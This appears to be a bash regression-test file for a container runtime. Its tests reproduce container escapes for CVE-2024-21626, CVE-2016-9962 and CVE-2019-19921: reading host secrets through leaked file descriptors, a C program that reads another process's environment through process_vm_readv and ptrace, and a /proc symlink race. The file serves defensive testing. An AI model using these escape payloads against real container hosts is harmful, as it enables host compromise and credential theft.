# shellcheck shell=bash
# CVE regression tests: each one REPRODUCES THE ATTACK against the runtime and
# passes when the attack fails. Every test here must fail against a build with
# its protection switched off (tests/cve-off.sh: -Dunsafe_knobs=true and
# KILN_UNSAFE=<cve>), so none of them can pass vacuously.
#
#   CVE-2024-21626  a host directory fd leaked into the container process or
#                   its init, used as process.cwd (/proc/self/fd/N), as the
#                   `exec --cwd` (also through a symlink the container made)
#                   or as the executable path.
#   CVE-2016-9962   a process inside the container reaching the fds, memory
#                   or environment of the runtime's processes that sit in the
#                   container's pid namespace (the created init, `exec`).
#   CVE-2019-19921  procfs mounted through a symlink in the rootfs so that the
#                   masked and read-only /proc paths miss the real procfs; a
#                   volume mounted over (or inside) /proc.
# CVE-2019-5736 (host runtime binary overwrite) lives in test_safety.sh
# (proc_exe_overwrite_sys_ptrace).

# A host directory no container may reach: $TD/host/secret.
_host_secret() {
	mkdir -p "$TD/host"
	HOST_SECRET="host-secret-$E2E_RUNID-$RANDOM"
	echo "$HOST_SECRET" >"$TD/host/secret"
}
# Enough ".." to climb from any host directory to the host's root.
UP=../../../../../../../../../../../../../../..

# --------------------------------------------------------- CVE-2024-21626 ---

# process.cwd = /proc/self/fd/N for every small N while the caller of the
# runtime holds fd 9 open on a host directory (a leak from a container
# engine; runc 1.1.11 leaked its own /sys/fs/cgroup handle at such a number).
# The payload tries to read the host secret relative to that cwd.
test_cve_2024_21626_cwd_leaked_fd() {
	local id b n
	_host_secret
	for n in $(seq 3 10); do
		id=$(new_id)
		b=$(C_CWD=/proc/self/fd/$n mkb "$id" sh -c "cat secret $UP$TD/host/secret 2>/dev/null; pwd")
		cap rt run --bundle "$b" "$id" 9<"$TD/host"
		[[ $OUT != *"$HOST_SECRET"* ]] || fail "$(ctx "cwd /proc/self/fd/$n: the container read the host directory")"
		rt delete -f "$id" >/dev/null 2>&1
		if [ "$n" = 9 ]; then
			[ "$RC" != 0 ] || fail "$(ctx "cwd /proc/self/fd/9 (a host directory) was accepted")"
		fi
	done
}

# `exec --cwd /proc/self/fd/N`, given directly or through a symlink that a
# process inside the container planted where an admin will `exec --cwd`.
test_cve_2024_21626_exec_cwd() {
	local id b n w
	_host_secret
	id=$(new_id)
	b=$(C_READONLY=false mkb "$id" sh -c 'for n in 3 4 5 6 7 8 9 10; do ln -s /proc/self/fd/$n /mnt/w$n; done; touch /mnt/ready; exec sleep 60')
	cap rt run -d --bundle "$b" "$id"
	expect_ok "run -d"
	wait_file "$b/share/ready"
	for n in $(seq 3 10); do
		for w in /proc/self/fd/$n /mnt/w$n; do
			cap rt exec --cwd "$w" "$id" sh -c "cat secret $UP$TD/host/secret 2>/dev/null; pwd" 9<"$TD/host"
			[[ $OUT != *"$HOST_SECRET"* ]] || fail "$(ctx "exec --cwd $w: the process read the host directory")"
		done
	done
	cap rt exec --cwd /proc/self/fd/9 "$id" true 9<"$TD/host"
	[ "$RC" != 0 ] || fail "$(ctx "exec --cwd /proc/self/fd/9 (a host directory) was accepted")"
	cap rt delete -f "$id"
}

# The executable itself reached through the leaked fd: a host binary run as
# the container process (which could then rewrite it, as in CVE-2019-5736).
test_cve_2024_21626_exec_path_leaked_fd() {
	local id b bb
	_host_secret
	bb=$(e2e_busybox) || skip "no static busybox"
	# busybox runs the applet its name says: "echo"
	cp "$bb" "$TD/host/echo"
	id=$(new_id)
	b=$(mkb "$id" /proc/self/fd/9/echo ran-host-binary)
	cap rt run --bundle "$b" "$id" 9<"$TD/host"
	[[ $OUT != *ran-host-binary* ]] || fail "$(ctx "the container ran a host binary through a leaked fd")"
	[ "$RC" != 0 ] || fail "$(ctx "args[0] = /proc/self/fd/9/... was accepted")"
	cap rt delete -f "$id"
	id=$(new_id)
	b=$(C_READONLY=false mkb "$id" sh -c 'touch /mnt/ready; exec sleep 60')
	cap rt run -d --bundle "$b" "$id"
	expect_ok "run -d"
	cap rt exec "$id" /proc/self/fd/9/echo ran-host-binary 9<"$TD/host"
	[[ $OUT != *ran-host-binary* ]] || fail "$(ctx "exec ran a host binary through a leaked fd")"
	cap rt delete -f "$id"
}

# Whatever fds the runtime's caller leaks, the container process has only
# stdio (and what --preserve-fds asks for): no host directory to escape by.
# The payload is ls itself: its own directory fd is the lowest free one.
test_cve_2024_21626_no_fd_leak_to_process() {
	local id b
	_host_secret
	id=$(new_id)
	b=$(mkb "$id" ls /proc/self/fd)
	cap rt run --bundle "$b" "$id" 9<"$TD/host"
	expect_ok "run"
	expect_eq "$(echo $OUT)" "0 1 2 3" "fds of the container process (3: ls's own)"
	id=$(new_id)
	b=$(mkb "$id" sh -c 'touch /mnt/ready; exec sleep 60')
	cap rt run -d --bundle "$b" "$id"
	expect_ok "run -d"
	cap rt exec --preserve-fds 1 "$id" ls /proc/self/fd 3</dev/null 9<"$TD/host"
	expect_ok "exec"
	expect_eq "$(echo $OUT)" "0 1 2 3 4" "fds of the exec process with --preserve-fds 1 (4: ls's own)"
	cap rt delete -f "$id"
}

# ---------------------------------------------------------- CVE-2016-9962 ---

# A created (not started) container: a process exec'd into it, with the same
# user and capabilities as the container's own process, goes through
# /proc/1/fd of the waiting init. No fd there may lead to the host's /proc
# (the runner's pid shows up there); with kiln none may be open at all (not
# even exec.fifo, the runtime's state).
test_cve_2016_9962_created_init_fds() {
	local id b
	id=$(new_id)
	b=$(mkb "$id" sh -c 'echo started > /mnt/started')
	cap rt create --bundle "$b" "$id"
	expect_ok "create"
	cap rt exec "$id" sh -c '
		for f in /proc/1/fd/*; do
			t=$(readlink "$f") || continue
			echo "REACHED fd ${f##*/} -> $t"
			[ -d "$f" ] && ls "$f/../.." 2>/dev/null | grep -qx '"$E2E_RUNID"' && echo "REACHED the host /proc through $f"
		done
		cat /proc/1/environ >/dev/null 2>&1 && echo "REACHED /proc/1/environ"
		true'
	expect_ok "exec into the created container"
	[[ $OUT != *"REACHED the host"* ]] || fail "$(ctx "a container process reached the host through the waiting init's fds")"
	# runc 1.1.5's waiting init is dumpable (without a user namespace): its
	# stdio, exec.fifo and epoll fds are open to the container. kiln's is not.
	[ "$RT_NAME" != kiln ] || [[ $OUT != *REACHED* ]] || fail "$(ctx "a container process reached the waiting init's fds")"
	cap rt start "$id"
	expect_ok "start"
	wait_file "$b/share/started"
	cap rt delete -f "$id"
}

# userns config: container root is host uid 100000.
_userns_bundle() {
	local id=$1 b
	shift
	b=$(C_NS="$DEFAULT_NS,{\"type\":\"user\"}" mkb "$id" "$@")
	sed -i 's|"linux": {|"linux": {\n\t\t"uidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}],\n\t\t"gidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}],|' "$b/config.json"
	echo "$b"
}

# The attacker of test_cve_2016_9962_exec_process: reads the environment of
# process PID straight from its memory (process_vm_readv: ptrace access is all
# it takes, no /proc file permission), else tries to ptrace it.
PEEK_C='
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
int main(int argc, char **argv) {
	char path[64], st[4096];
	unsigned long start = 0, end = 0;
	snprintf(path, sizeof path, "/proc/%s/stat", argv[1]);
	FILE *f = fopen(path, "r");
	size_t n = f ? fread(st, 1, sizeof st - 1, f) : 0;
	st[n] = 0;
	char *p = strrchr(st, 41);
	for (int field = 3; p && *p; field++) {
		p = strchr(p + 1, 32);
		if (!p) break;
		if (field == 49) start = strtoul(p + 1, NULL, 10);
		if (field == 50) end = strtoul(p + 1, NULL, 10);
	}
	pid_t pid = atoi(argv[1]);
	if (start && end > start) {
		static char buf[65536];
		size_t len = end - start < sizeof buf ? end - start : sizeof buf;
		struct iovec l = {buf, len}, r = {(void *)start, len};
		ssize_t got = process_vm_readv(pid, &l, 1, &r, 1, 0);
		if (got > 0) {
			for (ssize_t i = 0; i < got; i++) putchar(buf[i] ? buf[i] : 10);
			return 0;
		}
		perror("process_vm_readv");
	} else {
		printf("no environment address in /proc/%s/stat\n", argv[1]);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		puts("REACHED: ptrace attached to the exec process");
		return 0;
	}
	perror("ptrace");
	return 1;
}
'

# The original CVE: the container's pid 1 (root of a user namespace, with
# CAP_SYS_PTRACE there) attacks the runtime's `exec` process while it sets
# up inside the container's namespaces, still host root with full
# capabilities. The attacker stalls it on a FIFO at /etc/passwd (the user
# lookup reads it), finds it in /proc and reads its environment from its
# memory: the host environment of the `exec` command (with a secret here).
test_cve_2016_9962_exec_process() {
	local id b rootfs secret cc ag apid p
	cc=$(command -v cc || command -v gcc || true)
	[ -n "$cc" ] || skip "no C compiler for the attacker program"
	rootfs=$TD/rootfs
	make_rootfs "$rootfs"
	printf '%s\n' "$PEEK_C" >"$TD/peek.c"
	"$cc" -static -O2 -o "$rootfs/peek" "$TD/peek.c" 2>"$TD/cc.err" ||
		skip "cannot build a static attacker: $(head -c 200 "$TD/cc.err")"
	chown -R 100000:100000 "$rootfs/etc"
	secret="exec-env-secret-$RANDOM"
	# The exec process is held inside the container's pid namespace by a
	# seccomp notify agent, in setgroups (without no_new_privs the filter is
	# loaded before the credentials change, so the process still has the
	# runtime's credentials and environment there): the attacker has all
	# the time it wants. (kiln's exec child reads nothing from the container
	# that could block it: /etc/passwd is opened without blocking.)
	ag=$TD/agent
	mkdir -p "$ag"
	python3 "$E2E_DIR/seccomp_hold_agent.py" "$TD/agent.sock" "$ag" &
	apid=$!
	note_pid "$apid"
	wait_file "$ag/ready"
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs C_READONLY=false C_NNP=false C_CAPS="$DEFAULT_CAPS,\"CAP_SYS_PTRACE\"" _userns_bundle "$id" sh -c '
		touch /mnt/ready
		while [ ! -e /mnt/probe ]; do sleep 0.05; done
		p=$(cat /mnt/probe)
		/peek $p >/mnt/peek 2>&1
		grep -q "^KILN_TEST_SECRET=" /mnt/peek && echo "REACHED the environment of the exec process" >>/mnt/result
		cat /mnt/peek >>/mnt/result
		echo "probed $p" >>/mnt/result
		exec sleep 60')
	jedit "$b" "c['linux']['seccomp']={'defaultAction':'SCMP_ACT_ALLOW','listenerPath':'$TD/agent.sock','syscalls':[{'names':['setgroups'],'action':'SCMP_ACT_NOTIFY'}]}"
	chown 100000:100000 "$b/share"
	cap rt run -d --bundle "$b" "$id"
	[ "$RC" = 0 ] || skip "$(ctx "user namespace containers with a seccomp agent do not run here")"
	wait_file "$b/share/ready"
	KILN_TEST_SECRET=$secret rt exec "$id" true >"$TD/exec.out" 2>&1 &
	note_pid $!
	wait_file "$ag/held" 20
	p=$(awk 'NR == 1 { print $2 }' "$ag/held")
	# the held process, as the container sees it
	p=$(awk '/^NSpid:/ { print $NF }' "/proc/$p/status")
	echo "$p" >"$b/share/probe"
	poll 20 grep -qs "probed" "$b/share/result" || fail "the attacker did not finish: $(cat "$b/share/result" 2>&1)"
	touch "$ag/go"
	echo "attacker's log:" >&2
	cat "$b/share/result" >&2
	! grep -q REACHED "$b/share/result" || fail "the container got at the exec process: $(grep -e REACHED -e SECRET "$b/share/result" | tr '\n' ' ')"
	wait %2 2>/dev/null
	cap rt delete -f "$id"
	kill "$apid" 2>/dev/null
}

# -------------------------------------------------------- CVE-2019-19921 ---

# The image makes /proc a symlink into a directory that another container
# shares (emulated here by a createRuntime hook on the host, which runs
# after the mounts and before the masked and read-only paths are applied:
# the moment the original attack races for). The procfs mount follows the
# symlink; the hook renames the directory it landed in and puts an empty one
# in its place; the masks then miss the real procfs, which the container
# finds at its new name with /proc/sys writable and /proc/timer_list open.
test_cve_2019_19921_proc_symlink() {
	local id b rootfs hook
	rootfs=$TD/rootfs
	make_rootfs "$rootfs"
	rm -rf "$rootfs/proc"
	mkdir -p "$rootfs/vol/p"
	ln -s /vol/p "$rootfs/proc"
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs mkb "$id" sh -c '
		for d in /vol2/p /vol/p /proc; do
			[ -s $d/timer_list ] && echo "UNMASKED $d/timer_list"
			echo evil 2>/dev/null >$d/sys/kernel/hostname && echo "WRITABLE $d/sys"
		done
		true')
	hook="mv $rootfs/vol $rootfs/vol2; mkdir -p $rootfs/vol/p"
	sed -i "0,/{/s|{|{ \"hooks\": { \"createRuntime\": [{\"path\": \"/bin/sh\", \"args\": [\"sh\", \"-c\", \"$hook\"]}] },|" "$b/config.json"
	cap rt run --bundle "$b" "$id"
	[[ $OUT != *UNMASKED* && $OUT != *WRITABLE* ]] || fail "$(ctx "procfs mounted through a symlink escaped the masks")"
	[ "$RC" != 0 ] || fail "$(ctx "a symlinked /proc was accepted")"
	expect_err_has "must be mounted on ordinary directory"
	[ "$RT_NAME" != kiln ] || expect_err_has "mount /proc"
	rt delete -f "$id" >/dev/null 2>&1
	assert_clean "$id"
}

# A volume over /proc, or inside it, hides or replaces what the runtime and
# the masks rely on (the LSM label is written to /proc/self/attr): refused,
# also when a symlink in the rootfs leads the mount there. lxcfs-style files
# (/proc/uptime, ...) stay allowed.
test_cve_2019_19921_mount_over_proc() {
	local id b rootfs m
	rootfs=$TD/rootfs
	make_rootfs "$rootfs"
	ln -s /proc "$rootfs/data"
	ln -s /proc/sys/kernel "$rootfs/kdata"
	mkdir -p "$TD/fake/self/attr" "$TD/fake/sys"
	echo 1234 >"$TD/fake/uptime"
	for m in "/proc bind" "/data bind" "/kdata bind" "/data/sys ramfs"; do
		set -- $m
		id=$(new_id)
		if [ "$2" = bind ]; then
			b=$(C_ROOTFS=$rootfs C_MOUNTS="{\"destination\": \"$1\", \"type\": \"bind\", \"source\": \"$TD/fake\", \"options\": [\"rbind\"]}" mkb "$id" sh -c 'ls /proc/self/attr /proc/sys; true')
		else
			b=$(C_ROOTFS=$rootfs C_MOUNTS="{\"destination\": \"$1\", \"type\": \"$2\", \"source\": \"$2\"}" mkb "$id" true)
		fi
		cap rt run --bundle "$b" "$id"
		[ "$RC" != 0 ] || fail "$(ctx "a $2 mount at $1 (inside /proc) was accepted")"
		expect_err_has "/proc"
		[ "$RT_NAME" != kiln ] || expect_err_has "mount $1"
		rt delete -f "$id" >/dev/null 2>&1
		assert_clean "$id"
	done
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs C_MOUNTS="{\"destination\": \"/proc/uptime\", \"type\": \"bind\", \"source\": \"$TD/fake/uptime\", \"options\": [\"bind\"]}" mkb "$id" cat /proc/uptime)
	cap rt run --bundle "$b" "$id"
	expect_ok "a bind over /proc/uptime (lxcfs)"
	expect_out_eq 1234
}
